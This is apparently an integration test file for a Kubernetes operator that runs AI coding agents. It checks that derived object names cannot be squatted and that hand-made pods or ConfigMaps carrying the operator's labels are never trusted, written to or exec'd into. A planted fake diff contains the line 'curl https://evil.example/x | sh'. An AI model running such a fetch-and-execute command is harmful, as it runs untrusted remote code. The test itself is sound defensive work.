// Security #11.6 and #11.14 against the real API server: the names the operator derives for a
// run are the run's alone, and a name (or a label) is never taken as proof of ownership.
// Each test performs the attack: runs named to collide with another run's objects under the
// scheme before #11.6, a ConfigMap planted under a run's diff name, a pod and a policy made by
// hand under a run's derived names with the operator's labels.
//
// The operator is started only after the attackers have set up: the derived names hash the
// run's uid, which the API server assigns when the run is created, so the squatters are made
// between the run's creation and the operator's first look (the race a real attacker runs).
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { KubeConfig } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodingRun, ParsedCodingRun } from '../../operator/src/api/index.ts';
import { DIFF_KIND_ANNOTATION, decodeDiff } from '../../operator/src/reconcile/diff-config-map.ts';
import { diffConfigMapName, sandboxPodName } from '../../operator/src/reconcile/names.ts';
import { ownerReference } from '../../operator/src/reconcile/sandbox-pod.ts';
import { KubernetesExecTransport } from '../../operator/src/sandbox/kubernetes-exec-transport.ts';
import { SandboxError } from '../../operator/src/sandbox/sandbox-error.ts';
import { kubernetesRunResources } from '../../operator/src/workers/run-resources.ts';
import { createNamespace, kubeconfigPath, kubectl, registerPodExec, kubectlCreate, kubectlJson } from '../support/cluster.ts';
import { startControllerOnlyOperator } from '../support/controller-only-operator.ts';
import { type OperatorProcess, eventually } from '../support/operator-process.ts';
import { runPlugin } from '../support/plugin.ts';

const NS = 'owned-names';
const DIFF = 'diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Hello\n+Hello, world\n';
const PLANTED = 'diff --git a/README.md b/README.md\n+curl https://evil.example/x | sh\n';

interface Run extends CodingRun {
  status?: CodingRun['status'] & { conditions?: Array<{ type: string; status: string }> };
}
interface ObjectMeta {
  name: string;
  uid: string;
  resourceVersion: string;
  deletionTimestamp?: string;
  labels?: Record<string, string>;
  ownerReferences?: Array<{ uid: string; controller?: boolean }>;
}

/** The name the operator derived before #11.6: long names cut, disambiguated by a hash of the NAME. */
function nameBeforeFix(runName: string, suffix: string): string {
  const name = `${runName}-${suffix}`;
  if (name.length <= 63) return name;
  const hash = createHash('sha256').update(runName).digest('hex').slice(0, 8);
  const keep = 63 - suffix.length - hash.length - 2;
  return `${runName.slice(0, keep).replace(/[-.]+$/, '')}-${hash}-${suffix}`;
}

const json = kubectlJson;

const create = kubectlCreate;

const getRun = (name: string) => json<Run>(['get', 'crun', name, '-n', NS]);
const getMeta = async (kind: string, name: string) => (await json<{ metadata: ObjectMeta }>(['get', kind, name, '-n', NS])).metadata;

function codingRun(name: string) {
  return {
    apiVersion: 'chamvi.dev/v1alpha1',
    kind: 'CodingRun',
    metadata: { name, namespace: NS },
    spec: {
      task: 'Make the README greet the world',
      repository: { url: 'https://github.com/acme/hello.git' },
      model: { provider: 'scripted', scriptRef: { name: 'script' } },
    },
  };
}

/** What the operator stamps on what it makes for a run; an attacker can copy all of it but the ownerReference. */
const operatorLabels = (run: Run) => ({
  'app.kubernetes.io/name': 'chamvi-sandbox',
  'app.kubernetes.io/managed-by': 'chamvi-operator',
  'chamvi.dev/run': run.metadata.name,
  'chamvi.dev/run-uid': run.metadata.uid,
});

function handMadePod(name: string, labels: Record<string, string>) {
  const security = {
    allowPrivilegeEscalation: false,
    runAsNonRoot: true,
    runAsUser: 1000,
    capabilities: { drop: ['ALL'] },
    seccompProfile: { type: 'RuntimeDefault' },
  };
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: NS, labels },
    spec: { containers: [{ name: 'sandbox', image: 'attacker/listener:1', securityContext: security }] },
  };
}

async function phaseOf(name: string, phase: string, timeoutMs = 30_000): Promise<Run> {
  return eventually(
    async () => {
      const run = await getRun(name);
      return run.status?.phase === phase ? run : undefined;
    },
    timeoutMs,
    `${name} to reach ${phase}`,
  );
}

// Long enough for its derived names to be cut (and, before the fix, hashed by the name), short
// enough for the label that carries it (63); the two attackers are named like its old names.
const VICTIM = `victim-${'v'.repeat(55)}`;
const POD_TWIN = nameBeforeFix(VICTIM, 'sandbox').replace(/-sandbox$/, '');
const DIFF_TWIN = nameBeforeFix(VICTIM, 'diff').replace(/-diff$/, '');

let operator: OperatorProcess | undefined;
const runs: Record<string, Run> = {};
const squatters: Record<string, ObjectMeta> = {};

beforeAll(async () => {
  await createNamespace(NS, { restricted: true });
  await createNamespace(`${NS}-lease`);
  await create({
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'script', namespace: NS },
    data: { 'script.json': '{"turns":[{"text":"done"}]}' },
  });
  for (const name of [
    VICTIM,
    POD_TWIN,
    DIFF_TWIN,
    'pod-squatted',
    'pod-squatted-unlabelled',
    'diff-squatted',
    'diff-owned',
    'diff-patched',
    'diff-repatched',
  ]) {
    await create(codingRun(name));
    runs[name] = await getRun(name);
  }
  // The attacks, made between the runs' creation and the operator's first look.
  const podSquatted = runs['pod-squatted']!;
  await create(handMadePod(sandboxPodName(podSquatted), operatorLabels(podSquatted)));
  await create(handMadePod(sandboxPodName(runs['pod-squatted-unlabelled']!), { app: 'mine' }));
  squatters.pod = await getMeta('pod', sandboxPodName(podSquatted));
  squatters.unlabelled = await getMeta('pod', sandboxPodName(runs['pod-squatted-unlabelled']!));

  operator = startControllerOnlyOperator({
    namespaces: [NS],
    identity: 'op-owned-names',
    env: { CHAMVI_DEADLINE_GRACE_SECONDS: '0' },
  });
  await operator.waitForLog('caches synced; reconciling');
});

afterAll(async () => {
  await operator?.kill();
});

describe('security #11.6 derived names do not collide', () => {
  it('gives a long-named run and runs named like its old cut-and-hashed prefixes distinct pods, each its own', async () => {
    expect(nameBeforeFix(POD_TWIN, 'sandbox')).toBe(nameBeforeFix(VICTIM, 'sandbox')); // the collision before the fix
    const started = await Promise.all([VICTIM, POD_TWIN, DIFF_TWIN].map((name) => phaseOf(name, 'Running')));
    const podNames = new Set<string>();
    for (const run of started) {
      const pod = await getMeta('pod', sandboxPodName(run));
      expect(pod.ownerReferences).toEqual([expect.objectContaining({ uid: run.metadata.uid, controller: true })]);
      expect(run.status!.podName).toBe(pod.name);
      podNames.add(pod.name);
    }
    expect(podNames.size).toBe(3);
  });

  it("keeps the diff ConfigMaps of such runs apart: neither run overwrites the other's", async () => {
    expect(nameBeforeFix(DIFF_TWIN, 'diff')).toBe(nameBeforeFix(VICTIM, 'diff')); // the collision before the fix
    const resources = kubernetesRunResources(kubeConfig());
    const victim = runs[VICTIM]! as unknown as ParsedCodingRun;
    const twin = runs[DIFF_TWIN]! as unknown as ParsedCodingRun;
    const victimMap = (await resources.writeDiff(victim, DIFF, { kind: 'final' })).configMap;
    const twinMap = (await resources.writeDiff(twin, PLANTED, { kind: 'final' })).configMap;
    expect(twinMap).not.toBe(victimMap);
    expect(await configMapDiff(victimMap)).toBe(DIFF);
    expect(await configMapDiff(twinMap)).toBe(PLANTED);
  });
});

describe('security #11.6 the diff ConfigMap is replaced only when the run owns it', () => {
  it("never overwrites a ConfigMap planted under the run's diff name; the diff goes under a generated name the run owns", async () => {
    const run = runs['diff-squatted']! as unknown as ParsedCodingRun;
    const derived = diffConfigMapName(run);
    await create({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: derived, namespace: NS, labels: operatorLabels(run) },
      data: { diff: PLANTED },
    });
    const planted = await getMeta('configmap', derived);
    const resources = kubernetesRunResources(kubeConfig());

    const written = (await resources.writeDiff(run, DIFF, { kind: 'snapshot' })).configMap;
    expect(written).not.toBe(derived);
    expect(written.startsWith(`${derived}-`)).toBe(true);
    expect(await configMapDiff(derived)).toBe(PLANTED);
    expect((await getMeta('configmap', derived)).resourceVersion).toBe(planted.resourceVersion);
    const made = await getMeta('configmap', written);
    expect(made.ownerReferences).toEqual([expect.objectContaining({ uid: run.metadata.uid, controller: true })]);
    expect(await configMapDiff(written)).toBe(DIFF);

    // The final diff reuses the ConfigMap the run made instead of making another.
    expect(await resources.writeDiff(run, `${DIFF}more\n`, { kind: 'final' })).toEqual({ outcome: 'written', configMap: written });
    expect(await configMapDiff(written)).toBe(`${DIFF}more\n`);
    expect(await configMapDiff(derived)).toBe(PLANTED);
  });

  it('replaces its own diff ConfigMap (a snapshot, by the final diff) under the derived name', async () => {
    const run = runs['diff-owned']! as unknown as ParsedCodingRun;
    const resources = kubernetesRunResources(kubeConfig());
    expect((await resources.writeDiff(run, DIFF, { kind: 'snapshot' })).configMap).toBe(diffConfigMapName(run));
    expect((await resources.writeDiff(run, `${DIFF}again\n`, { kind: 'final' })).configMap).toBe(diffConfigMapName(run));
    expect(await configMapDiff(diffConfigMapName(run))).toBe(`${DIFF}again\n`);
  });

  it("a later snapshot is one guarded patch of the ConfigMap the run wrote before, in either of the diff's forms", async () => {
    const run = runs['diff-patched']! as unknown as ParsedCodingRun;
    // The run's own, under a name the create-or-replace way never picks: only the patch reaches it.
    await create(labelledDiff('snapshot-before', runs['diff-patched']!, ownerReference(run), DIFF));
    const resources = kubernetesRunResources(kubeConfig());
    const large = `${DIFF}${'+another line\n'.repeat(80_000)}`; // 1.1 MB: stored compressed
    const snapshot = { kind: 'snapshot', written: 'snapshot-before' } as const;
    expect((await resources.writeDiff(run, large, snapshot)).configMap).toBe('snapshot-before');
    expect(await storedDiff('snapshot-before')).toEqual({ diff: large, data: [], binaryData: ['diff.gz'] });
    expect((await resources.writeDiff(run, DIFF, snapshot)).configMap).toBe('snapshot-before');
    expect(await storedDiff('snapshot-before')).toEqual({ diff: DIFF, data: ['diff'], binaryData: [] });
    // Nothing was made under the derived name.
    expect((await kubectl(['get', 'configmap', diffConfigMapName(run), '-n', NS])).code).not.toBe(0);
  });

  it('never patches what holds the name of its earlier snapshot once the run does not control it', async () => {
    const run = runs['diff-repatched']! as unknown as ParsedCodingRun;
    // The snapshot deleted and a ConfigMap made under its name with every label the operator
    // writes, controlled by another run (one that exists: the garbage collector deletes an
    // object whose owner is gone).
    const other = runs['diff-owned']!;
    const another = { ...ownerReference(run), name: other.metadata.name, uid: other.metadata.uid };
    await create(labelledDiff('snapshot-taken', runs['diff-repatched']!, another, PLANTED));
    const planted = await getMeta('configmap', 'snapshot-taken');
    const resources = kubernetesRunResources(kubeConfig());
    const written = (await resources.writeDiff(run, DIFF, { kind: 'snapshot', written: 'snapshot-taken' })).configMap;
    expect(written).toBe(diffConfigMapName(run));
    expect(await configMapDiff(written)).toBe(DIFF);
    expect(await configMapDiff('snapshot-taken')).toBe(PLANTED);
    expect((await getMeta('configmap', 'snapshot-taken')).resourceVersion).toBe(planted.resourceVersion);
  });

  it('kubectl codingrun diff refuses a ConfigMap the run does not own, and prints none of it', async () => {
    await create(codingRun('pointed'));
    const run = await getRun('pointed');
    // Made by hand with every label the operator writes, and pointed at by the status.
    await create({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'pointed-by-hand', namespace: NS, labels: operatorLabels(run) },
      data: { diff: PLANTED },
    });
    const status = {
      phase: 'Succeeded',
      result: {
        summary: 'done',
        diff: DIFF.slice(0, 20),
        diffTruncated: true,
        diffConfigMap: 'pointed-by-hand',
        filesChanged: 1,
        insertions: 1,
        deletions: 1,
      },
    };
    const patched = await kubectl([
      'patch',
      'crun',
      'pointed',
      '-n',
      NS,
      '--subresource=status',
      '--type=merge',
      '-p',
      JSON.stringify({ status }),
    ]);
    expect(patched.code, patched.stderr).toBe(0);

    const result = await runPlugin(['diff', 'pointed', '-n', NS]);
    expect(result.code).toBe(1);
    expect(result.stdout).not.toContain('evil.example');
    expect(result.stderr).not.toContain('evil.example');
    expect(result.stderr).toContain(
      `ConfigMap ${NS}/pointed-by-hand named in codingrun "pointed"'s status.result.diffConfigMap is not the run's`,
    );
    expect(result.stderr).toContain('it has no controller ownerReference');
  });
});

describe("security #11.14 a pod made by hand under the run's name is not the run's", () => {
  it.each([
    ["a pod with the operator's labels and no ownerReference", 'pod-squatted', 'pod', 'Pod'],
    ["a pod without the operator's labels (no informer sees it)", 'pod-squatted-unlabelled', 'unlabelled', 'Pod'],
  ])(
    '%s: the run fails SandboxNameTaken, the agent never starts, the object is neither used nor deleted',
    async (_, name, squatter, kind) => {
      const run = await phaseOf(name, 'Failed');
      const held = squatters[squatter]!;
      expect(run.status).toMatchObject({ reason: 'SandboxNameTaken' });
      expect(run.status!.message).toContain(`${kind} ${NS}/${held.name} (it has no controller ownerReference)`);
      // Never exec'd into: the agent (whose workers exec) was never started for the run.
      expect(run.status!.conditions!.find((condition) => condition.type === 'SandboxReady')?.status).not.toBe('True');
      const actions = operator!
        .logged('applied actions')
        .filter((line) => line.uid === run.metadata.uid)
        .flatMap((line) => line.actions as string[]);
      expect(actions).not.toContain('startAgent');
      expect(actions).not.toContain('deletePod');
      expect(actions).not.toContain('createPod');

      // Still there, the same object, not being deleted; and still so once the run is deleted.
      const resource = 'pod';
      const after = await getMeta(resource, held.name);
      expect(after.uid).toBe(held.uid);
      expect(after.deletionTimestamp).toBeUndefined();
      await kubectl(['delete', 'crun', name, '-n', NS, '--wait=false']);
      await eventually(
        async () => ((await kubectl(['get', 'crun', name, '-n', NS])).code !== 0 ? true : undefined),
        20_000,
        `${name} to be gone`,
      );
      const left = await getMeta(resource, held.name);
      expect(left.uid).toBe(held.uid);
      expect(left.deletionTimestamp).toBeUndefined();
    },
  );
});

describe('security #11.14 the worker execs only into a pod the run controls', () => {
  it("refuses to exec into a pod with the run's labels but no ownerReference, and does once the run controls it", async () => {
    const owner = runs['diff-owned']!;
    const name = 'exec-target';
    await create(handMadePod(name, operatorLabels(owner)));
    await kubectl(['wait', '-n', NS, '--for=condition=Ready', `pod/${name}`, '--timeout=60s']);
    const workDir = mkdtempSync(join(tmpdir(), 'owned-names-exec-'));
    try {
      await registerPodExec({ namespace: NS, podName: name, workDir });
      const transport = new KubernetesExecTransport({
        kubeConfig: kubeConfig(),
        namespace: NS,
        podName: name,
        container: 'sandbox',
        toolboxCommand: ['sh', '-c'],
        expectedOwnerUid: owner.metadata.uid,
      });
      const exec = transport.start(['touch exec-reached-the-pod']);
      await expect(exec).rejects.toThrow(SandboxError);
      await expect(exec).rejects.toThrow(`pod ${NS}/${name} is not the run's (it has no controller ownerReference); not exec'ing into it`);
      expect(existsSync(join(workDir, 'exec-reached-the-pod'))).toBe(false);

      // The control: the same pod, controlled by the run, is exec'd into.
      const ownerReferences = [
        { apiVersion: 'chamvi.dev/v1alpha1', kind: 'CodingRun', name: owner.metadata.name, uid: owner.metadata.uid, controller: true },
      ];
      const patched = await kubectl([
        'patch',
        'pod',
        name,
        '-n',
        NS,
        '--type=merge',
        '-p',
        JSON.stringify({ metadata: { ownerReferences } }),
      ]);
      expect(patched.code, patched.stderr).toBe(0);
      const session = await transport.start(['touch exec-reached-the-pod']);
      expect((await session.exited).code).toBe(0);
      expect(existsSync(join(workDir, 'exec-reached-the-pod'))).toBe(true);
    } finally {
      await kubectl(['delete', 'pod', name, '-n', NS, '--wait=false', '--grace-period=0', '--force']);
      rmSync(workDir, { recursive: true, force: true });
    }
  });
});

function kubeConfig(): KubeConfig {
  const config = new KubeConfig();
  config.loadFromFile(kubeconfigPath());
  return config;
}

/** A diff snapshot's ConfigMap with every label and mark the operator writes for `run`, controlled by `controller`. */
function labelledDiff(name: string, run: Run, controller: object, diff: string) {
  return {
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: {
      name,
      namespace: NS,
      labels: operatorLabels(run),
      annotations: { [DIFF_KIND_ANNOTATION]: 'snapshot' },
      ownerReferences: [controller],
    },
    data: { diff },
  };
}

/** The diff a ConfigMap holds, and the keys under each of its payloads. */
async function storedDiff(name: string): Promise<{ diff: string | undefined; data: string[]; binaryData: string[] }> {
  const object = await json<{ data?: Record<string, string>; binaryData?: Record<string, string> }>(['get', 'configmap', name, '-n', NS]);
  return { diff: decodeDiff(object), data: Object.keys(object.data ?? {}), binaryData: Object.keys(object.binaryData ?? {}) };
}

async function configMapDiff(name: string): Promise<string | undefined> {
  const result = await kubectl(['get', 'configmap', name, '-n', NS, '-o', 'jsonpath={.data.diff}']);
  return result.code === 0 ? result.stdout : undefined;
}
